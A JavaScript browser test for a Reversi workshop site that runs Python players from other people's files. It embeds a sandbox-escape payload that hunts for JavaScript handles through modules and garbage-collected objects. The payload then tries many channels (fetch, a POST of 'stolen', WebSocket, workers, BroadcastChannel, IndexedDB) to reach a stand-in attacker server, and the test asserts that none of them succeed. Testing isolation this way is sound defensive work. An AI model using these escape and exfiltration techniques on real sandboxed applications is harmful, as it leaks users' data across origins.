/** Programs in files from somebody else: what they try, and that nothing of it gets out. */
import assert from 'node:assert/strict';
import { createServer } from 'node:http';

const OFTEN = { polling: 50 };

/** A server of another origin that lets everybody in, and notes who comes. */
async function elsewhere() {
  const asked = [];
  const server = createServer((request, response) => {
    asked.push(request.url);
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }).end('');
  });
  server.on('upgrade', (request, socket) => { asked.push(request.url); socket.destroy(); });
  await new Promise(resolve => server.listen(0, '127.0.0.1', resolve));
  return {
    asked,
    port: server.address().port,
    close() {
      server.closeAllConnections();
      return new Promise(resolve => server.close(resolve));
    },
  };
}

/** What JavaScript in a worker tries; the addresses say by what. */
const SCRIPT = (port, site) => `
  const ways = {
    fetch: to => fetch(to),
    post: to => fetch(to, { method: 'POST', mode: 'no-cors', body: 'stolen' }),
    xhr: to => { const request = new XMLHttpRequest(); request.open('GET', to, false); request.send(); },
    import: to => import(to),
    importScripts: to => importScripts(to),
    socket: to => new WebSocket(to.replace('http', 'ws')),
    events: to => new EventSource(to),
    worker: to => new Worker('data:text/javascript,fetch(' + JSON.stringify(to) + ')'),
    transport: to => new WebTransport(to.replace('http:', 'https:')),
  };
  for (const [name, go] of Object.entries(ways)) {
    try { Promise.resolve(go('http://127.0.0.1:${port}/' + name)).catch(() => {}); } catch {}
  }
  try { new BroadcastChannel('stolen').postMessage('stolen'); } catch {}
  try { indexedDB.open('stolen'); } catch {}
  try { caches.open('stolen').catch(() => {}); } catch {}
`;

/** What Python tries: \`attack(sys)\` answers with the ways that it has found to JavaScript. */
const ATTACK = port => `
SCRIPT = ${JSON.stringify(SCRIPT(port))}
HERE = "http://127.0.0.1:${port}/"


def roots(sys):
    bring = sys.modules["builtins"].__import__
    fetch = lambda name: bring(name, fromlist=["x"])
    yield "js", lambda: fetch("js")
    yield "pyodide_js", lambda: fetch("pyodide_js")
    yield "run_js", lambda: fetch("pyodide.code").run_js("globalThis")
    yield "core", lambda: fetch("_pyodide_core")
    yield "ffi", lambda: fetch("pyodide.ffi").create_proxy(print)
    yield "http", lambda: fetch("pyodide.http").open_url(HERE + "open_url")
    yield "modules", lambda: sys.modules["js"]
    for finder in sys.meta_path:
        yield "finder", lambda: finder.find_spec("js", None, None).loader.jsproxy
        yield "finder", lambda: finder.jsproxies["js"]
    for name, module in list(sys.modules.items()):
        yield name, lambda: module.js
        yield name, lambda: module.__dict__["pyodide_js"]
    gc = fetch("gc")
    for held in gc.get_objects():
        if type(held).__name__.startswith("JsProxy"):
            yield "object", lambda: held
        for cell in getattr(held, "__closure__", None) or ():
            if type(cell.cell_contents).__name__.startswith("JsProxy"):
                yield "cell", lambda: cell.cell_contents


def attack(sys):
    found = set()
    for name, take in roots(sys):
        try:
            root = take()
        except BaseException:
            continue
        for way, go in (
            ("eval", lambda: root.eval(SCRIPT)),
            ("Function", lambda: root.Function.new(SCRIPT)()),
            ("constructor", lambda: root.constructor(SCRIPT)()),
            ("made", lambda: root.constructor.constructor(SCRIPT)()),
            ("timer", lambda: root.setTimeout(SCRIPT, 0)),
            ("fetch", lambda: root.fetch(HERE + "js.fetch")),
            ("worker", lambda: root.Worker.new("data:text/javascript," + SCRIPT)),
            ("channel", lambda: root.BroadcastChannel.new("stolen").postMessage("stolen")),
            ("database", lambda: root.indexedDB.open("stolen")),
        ):
            try:
                go()
                found.add(name + "." + way)
            except BaseException:
                pass
    try:
        bring = sys.modules["builtins"].__import__
        bring("socket").create_connection(("127.0.0.1", ${port}), 1)
        found.add("socket")
    except BaseException:
        pass
    return sorted(found)
`;

const PLAYER = port => `${ATTACK(port)}
import sys


def choose(game):
    return attack(sys)
`;

const LEARNER = port => `import dataclasses
${ATTACK(port)}

print("found", attack(dataclasses.sys))
`;

const work = (key, code) => JSON.stringify({ reversi_workshop: 1, name: 'Mallory', work: { [key]: code }, done: [] });

const says = (page, words) => page.waitForFunction(words => document.body.textContent.includes(words), OFTEN, words);

/** Hear what the site's other pages hear. */
function overhear() {
  globalThis.overheard = [];
  new BroadcastChannel('stolen').onmessage = ({ data }) => globalThis.overheard.push(data);
}

/** What has reached the other server, the site's other pages, its databases and its caches. */
async function gotOut(page, other, from) {
  await page.evaluate(() => new Promise(resolve => { setTimeout(resolve, 500); }));   // what was sent may be on its way
  const inside = await page.evaluate(async () => {
    const databases = indexedDB.databases ? await indexedDB.databases().catch(() => []) : [];
    const stores = globalThis.caches ? await caches.keys().catch(() => []) : [];
    return [...globalThis.overheard, ...databases.map(each => each.name), ...stores].filter(each => each === 'stolen');
  });
  return { from, asked: [...other.asked], inside };
}

const NOTHING = from => ({ from, asked: [], inside: [] });

export function foreign(setting) {
  setting.onFirstVisit('a player from somebody\'s file reaches neither another site nor this one\'s storage', async visit => {
    const other = await elsewhere(), { page } = visit;
    try {
      const person = await visit.opens(setting.url);
      await person.seesReady();
      await page.evaluate(overhear);
      await page.evaluate((key, text) => localStorage.setItem(key, text), 'reversi-own-player',
        JSON.stringify({ format: 1, name: 'Mallory', code: PLAYER(other.port) }));
      await person.reloads();
      await page.evaluate(overhear);
      await page.click('#player-white');
      await page.waitForSelector('#players');
      await person.presses('Mallory');
      await person.presses('Play');
      await person.clicks('d3');
      await says(page, 'Mallory must answer');
      const said = await page.$eval('.notice:has(button)', notice => notice.textContent);
      const out = await gotOut(page, other, 'a player');
      await page.evaluate(script => {
        globalThis.bound = new Worker(`data:text/javascript,${encodeURIComponent(script)}`, { type: 'module' });
      }, SCRIPT(other.port));
      const bare = await gotOut(page, other, 'a worker that nothing confines but the policy');
      visit.forgive({ later: true });

      assert.match(said, /answered \[\] \(list\)/);
      assert.deepEqual(out, NOTHING('a player'));
      assert.deepEqual(bare, NOTHING('a worker that nothing confines but the policy'));
    } finally {
      await other.close();
    }
  });
}
